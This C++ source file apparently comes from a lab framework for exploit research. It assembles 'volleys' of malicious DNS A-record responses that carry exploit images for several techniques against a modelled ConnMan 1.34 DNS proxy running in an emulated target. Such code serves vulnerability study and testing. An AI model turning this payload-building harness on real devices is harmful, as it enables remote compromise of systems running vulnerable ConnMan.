#include "src/attack/battery.hpp"

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/obs/obs.hpp"

namespace connlab::attack {

util::Result<VolleyBattery> BuildVolleyBattery(
    isa::Arch arch, const loader::ProtectionConfig& lab_prot,
    std::uint64_t lab_seed, const std::vector<exploit::Technique>& techniques) {
  if (techniques.empty()) {
    return util::InvalidArgument("need at least one technique");
  }
  OBS_TRACE_SPAN(span, "attack", "BuildVolleyBattery");

  VolleyBattery battery;
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, lab_prot, lab_seed));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(battery.profile, extractor.Extract());
  battery.probes = static_cast<int>(lab_proxy.stats().responses);

  const dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
  CONNLAB_ASSIGN_OR_RETURN(battery.query_wire, dns::Encode(query));

  exploit::ExploitGenerator generator(battery.profile);
  for (const exploit::Technique technique : techniques) {
    auto image = generator.BuildImage(technique);
    if (!image.ok()) continue;  // not buildable for this profile
    auto labels = dns::CutIntoLabels(image.value());
    if (!labels.ok()) continue;
    Volley volley;
    volley.technique = technique;
    volley.payload_bytes = image.value().size();
    volley.labels = labels.value().size();
    dns::Message evil = dns::MaliciousAResponse(query, std::move(labels).value());
    CONNLAB_ASSIGN_OR_RETURN(volley.response_wire, dns::Encode(evil));
    OBS_COUNT("attack.volleys_built");
    battery.volleys.push_back(std::move(volley));
  }
  if (battery.volleys.empty()) {
    return util::FailedPrecondition("no requested technique is buildable");
  }
  span.Arg("volleys", static_cast<std::uint64_t>(battery.volleys.size()));
  return battery;
}

}  // namespace connlab::attack
